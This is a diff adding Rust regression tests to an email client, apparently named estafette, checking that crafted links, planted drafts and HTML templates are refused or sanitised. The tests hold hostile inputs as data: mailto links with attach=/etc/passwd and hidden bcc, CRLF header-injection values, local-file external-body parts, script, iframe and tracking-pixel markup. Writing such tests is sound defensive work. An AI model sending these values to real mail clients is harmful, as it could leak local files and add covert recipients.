@@ -6,8 +6,9 @@ use estafette::domain::address::Mailbox;
 use estafette::domain::document::Warning;
 use estafette::domain::draft::Draft;
 use estafette::domain::id::{AccountId, FolderId, MessageId};
+use estafette::domain::link::{Link, LinkError};
 use estafette::domain::message::{Block, Flags, MessageRow, MessageView};
-use estafette::mime::{self, html, parse};
+use estafette::mime::{self, DraftTag, html, parse};
 
 use crate::build::{identity, ids};
 
@@ -322,4 +323,131 @@ fn attack_36_37_38_46_no_signature_and_no_certificate_of_a_message_is_ever_taken
     // two S/MIME layers of which one hides the other
     let nested = whole(signed, &part("--s\r\nContent-Type: text/html\r\n\r\n<p>glissé</p>"));
     assert!(!parse(&nested).defects.is_empty());
+}
+
+/// Header fields of a built message, names in lower case.
+fn fields(raw: &[u8]) -> Vec<String> {
+    let text = String::from_utf8(raw.to_vec()).unwrap();
+    let (head, _) = text.split_once("\r\n\r\n").unwrap();
+    let names = head.lines().filter(|line| !line.starts_with([' ', '\t']));
+    names.filter_map(|line| Some(line.split_once(':')?.0.to_ascii_lowercase())).collect()
+}
+
+#[test]
+fn attack_44_a_link_attaches_nothing_hides_nobody_and_adds_no_line() {
+    // addresses of mail are none of this program's: the system is not told that it opens them, and a link of theirs
+    // handed to it is refused
+    let entry =
+        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/packaging/linux/estafette.desktop"));
+    assert!(!entry.unwrap().contains("mailto"));
+    for link in [
+        "mailto:a@b.fr?attach=/etc/passwd",
+        "mailto:a@b.fr?attachment=/etc/passwd&bcc=espion@x.example",
+        "MAILTO:a@b.fr",
+        "estafette:mailto:a@b.fr?attach=/etc/passwd",
+    ] {
+        assert_eq!(Link::parse(link), Err(LinkError::Action), "{link}");
+    }
+    // its own take no hidden recipient, no text, no header, no file that is only named, and nothing without end
+    for name in ["attach", "attachment", "bcc", "cc", "cci", "body", "corps", "in-reply-to", "from", "html"] {
+        let link = format!("estafette:ecrire?a=b@c.fr&{name}=x");
+        assert_eq!(Link::parse(&link), Err(LinkError::Field(name.to_owned())), "{link}");
+    }
+    for (link, field) in [
+        ("estafette:ecrire?objet=Avis%0d%0aBcc:%20espion@x.example", "objet"),
+        ("estafette:ecrire?a=b@c.fr%0d%0aBcc:espion@x.example", "a"),
+        ("estafette:ecrire?a=b@c.fr,espion@x.example", "a"),
+        ("estafette:ecrire?document=file:///etc/passwd", "document"),
+        ("estafette:ecrire?document=cr.pdf", "document"),
+    ] {
+        assert_eq!(Link::parse(link), Err(LinkError::Value(field.to_owned())), "{link}");
+    }
+    let long = format!("estafette:ecrire?objet={}", "a".repeat(5_000));
+    assert_eq!(Link::parse(&long), Err(LinkError::Length));
+    // in a letter such an address stays an address to look at: answering the letter adds nobody
+    let raw = whole(
+        "Content-Type: text/html\r\n",
+        "<a href=\"mailto:espion@x.example?bcc=autre@x.example&amp;attach=/etc/passwd\">Répondre ici</a>",
+    );
+    let answer = answer(&raw);
+    let to: Vec<&str> = answer.recipients().iter().map(|r| r.address.as_str()).collect();
+    // to all, and nobody the link names
+    assert_eq!(to, ["marie@m.example", "anne@m.example"]);
+    assert!(answer.bcc.is_empty() && answer.attachments.is_empty());
+}
+
+#[test]
+fn attack_45_a_draft_on_the_server_holds_what_was_typed_and_opens_nothing_that_is_sealed() {
+    let sealed = whole(
+        "Message-ID: <secret@m.example>\r\nContent-Type: multipart/mixed; boundary=b\r\n",
+        "--b\r\n\r\nBonjour\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
+         Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\nTUlJU0VDUkVU\r\n--b--\r\n",
+    );
+    let original = view(&sealed);
+    let draft = Draft { body: "Ma réponse".to_owned(), ..answer(&sealed) };
+    let tag = DraftTag { identity: "abc".into(), revision: "1".into(), base: None, conflict: false };
+    let built = mime::build_draft(&draft, &identity(), Some(&original.envelope), &ids(), &tag).unwrap();
+    let text = String::from_utf8(built.clone()).unwrap();
+    assert!(!text.contains("SECRET") && !text.contains("TUlJU0VDUkVU") && !text.contains("pkcs7"), "{text}");
+    // no field but those a message has and the one that names the draft
+    let known = [
+        "x-estafette-draft",
+        "from",
+        "to",
+        "cc",
+        "bcc",
+        "subject",
+        "date",
+        "message-id",
+        "in-reply-to",
+        "references",
+        "mime-version",
+        "content-type",
+        "content-transfer-encoding",
+        "x-mss-nil",
+    ];
+    let others: Vec<String> = fields(&built).into_iter().filter(|f| !known.contains(&f.as_str())).collect();
+    assert!(others.is_empty(), "{others:?}");
+    // a draft somebody else put there is no oracle: what is encrypted in it stays so, nothing is signed, and no field
+    // of it makes the program read a file
+    let planted = whole(
+        "X-Estafette-Draft: abc;\r\n revision=1;\r\n seal=00\r\nX-Mozilla-External-Attachment-URL: file:///etc/passwd\r\n\
+         X-Identity-Key: id1\r\nContent-Type: multipart/mixed; boundary=b\r\n",
+        "--b\r\n\r\nTexte\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n\
+         Content-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\nTUlJU0VDUkVU\r\n\
+         --b\r\nContent-Type: message/external-body; access-type=local-file; name=\"/etc/passwd\"\r\n\
+         Content-Disposition: attachment; filename=cr.pdf\r\n\r\nContent-Type: text/plain\r\n\r\n--b--\r\n",
+    );
+    let read = mime::read_draft(&planted, AccountId(1)).draft;
+    assert_eq!(read.body.trim(), "Texte");
+    let passwd = std::fs::read("/etc/passwd").unwrap_or_default();
+    assert!(read.attachments.iter().all(|file| file.content != passwd));
+    let sealed = read.attachments.iter().find(|file| file.name == "smime.p7m").unwrap();
+    assert_eq!(sealed.content, b"MIISECRET", "as it came, not opened");
+    let sent = mime::build(&Draft { subject: "x".into(), ..read }, &identity(), None, &ids()).unwrap().raw;
+    assert!(!String::from_utf8(sent).unwrap().contains("multipart/signed"));
+}
+
+#[test]
+fn attack_50_no_markup_of_a_template_or_signature_is_ever_sent_or_taken_over() {
+    let markup = "<p>Cordialement</p><script>alert(1)</script><img src=\"http://x.example/p.gif\">";
+    let typed = Draft { body: markup.to_owned(), subject: "x".into(), ..answer(&whole("", "Bonjour")) };
+    let built = mime::build(&typed, &identity(), None, &ids()).unwrap();
+    let sent = String::from_utf8(built.raw.clone()).unwrap();
+    assert!(!sent.to_ascii_lowercase().contains("text/html"), "{sent}");
+    // who reads it sees the letters that were typed
+    let read = parse(&built.raw);
+    assert_eq!(read.text.trim(), markup);
+    assert!(read.blocks.iter().flat_map(Block::spans).all(|span| span.link.is_none()));
+    // a template of another program, taken over as a draft, gives its visible words and nothing else
+    let template = whole(
+        "Content-Type: text/html\r\n",
+        "<style>p{color:red}</style><p>Cher confrère,</p><script>alert(1)</script>\
+         <span style=\"display:none\">CACHÉ</span><img src=\"http://x.example/p.gif\" alt=\"\"><iframe src=\"//x\"></iframe>\
+         <p onclick=\"x()\">Cordialement</p>",
+    );
+    let draft = mime::read_draft(&template, AccountId(1)).draft;
+    let lines: Vec<&str> = draft.body.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
+    assert_eq!(lines, ["Cher confrère,", "Cordialement"]);
+    assert!(draft.attachments.is_empty());
 }
